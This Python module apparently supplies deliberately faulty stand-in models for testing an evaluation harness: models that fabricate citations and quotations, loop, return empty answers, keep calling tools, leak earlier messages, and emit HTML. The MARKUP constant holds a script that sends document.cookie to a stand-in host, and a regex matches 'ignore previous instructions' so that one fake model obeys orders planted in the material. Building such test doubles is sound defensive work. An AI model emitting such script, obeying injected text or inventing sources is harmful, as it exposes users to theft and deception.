"""Models that do not do as they are told, one for each way in which real ones fail a reader."""

from __future__ import annotations

import re
from collections.abc import Iterator

from harness.openrouter import extractive, sentences
from harness.openrouter.conversation import Answer, Conversation, ToolCall
from harness.openrouter.example_schema import schema_in
from harness.openrouter.structured import instance_answer
from harness.openrouter.tool_use import call_of

NO_SUCH_PASSAGE = 9_999
LIE = "The moon was made of copper, as everyone in the harbour knew."
MARKUP = (
    '<h1>Summary</h1><script>fetch("https://elsewhere.example/?q=" + document.cookie)</script>'
    "<img src=x onerror=alert(1)>"
)
REPETITIONS = 100_000
NOSY_NUMBERS = range(1, 13)
LAST_SENTENCES = 3
# An order planted in a book: everything after "ignore … instructions", up to the end of the sentence.
_ORDER = re.compile(
    r"ignore (?:all |the |your )?(?:previous |other )?instructions(?: and|[:,.])?\s*([^.!\n]+)", re.IGNORECASE
)


def ramble(conversation: Conversation) -> Answer:
    """Prose, whatever form was asked for."""
    material = extractive.take_apart(conversation.user_text).material
    return Answer(
        f"Sure! Here is what I found, in my own words:\n\n{extractive.summarise(material)}\n\nHope this helps!"
    )


def lie(conversation: Conversation) -> Answer:
    """A citation of a passage that was not sent, and an invented quotation from one that was."""
    given = extractive.passages(extractive.take_apart(conversation.user_text).material)
    first = given[0].number if given else 1
    return Answer(f'It says so plainly [{NO_SUCH_PASSAGE}]. "{LIE}" [{first}]')


def be_silent(conversation: Conversation) -> Answer:
    """Nothing at all."""
    return Answer("")


def loop(conversation: Conversation) -> Answer:
    """The same sentence until the limit cuts it."""
    own = sentences.split(extractive.take_apart(conversation.user_text).material) or ["And so on."]
    return Answer(f"{own[0]} " * (REPETITIONS // (len(own[0]) + 1)))


def mark_up(conversation: Conversation) -> Answer:
    """HTML with a script."""
    return Answer(MARKUP)


def obey_the_text(conversation: Conversation) -> Answer:
    """What an order planted in the material demands; the honest extract where there is none."""
    order = _ORDER.search(conversation.user_text)
    return Answer(f"As ordered: {order.group(1).strip()}" if order else extractive.answer(conversation.user_text, []))


def keep_calling(conversation: Conversation) -> Answer:
    """A tool call after every result; without tools there is nothing it wants to say."""
    if not conversation.tools:
        return Answer("")
    call = call_of(conversation.tools[0]["function"], conversation)
    return Answer(tool_calls=[call], finish="tool_calls")


def gossip(conversation: Conversation) -> Answer:
    """How all that it was told ends, by whomever, once it has drawn out of every tool what it can."""
    if conversation.wants_json:
        return Answer(instance_answer(conversation, conversation.schema or schema_in(conversation.instructions)))
    if conversation.tools and not conversation.tool_results and conversation.tool_choice != "none":
        return Answer(tool_calls=list(_calls(conversation)), finish="tool_calls")
    told = [extractive.take_apart(message.text).material for message in conversation.messages[1:]]
    return Answer("\n".join(" ".join(sentences.split(text)[-LAST_SENTENCES:]) for text in told))


def _calls(conversation: Conversation) -> Iterator[ToolCall]:
    """Every tool; those that take a number with the first few."""
    for tool in conversation.tools:
        function = tool["function"]
        required = (function.get("parameters") or {}).get("required") or []
        if "search" in function["name"] or not required:
            yield call_of(function, conversation)
        else:
            yield from (ToolCall(function["name"], {required[0]: str(number)}) for number in NOSY_NUMBERS)
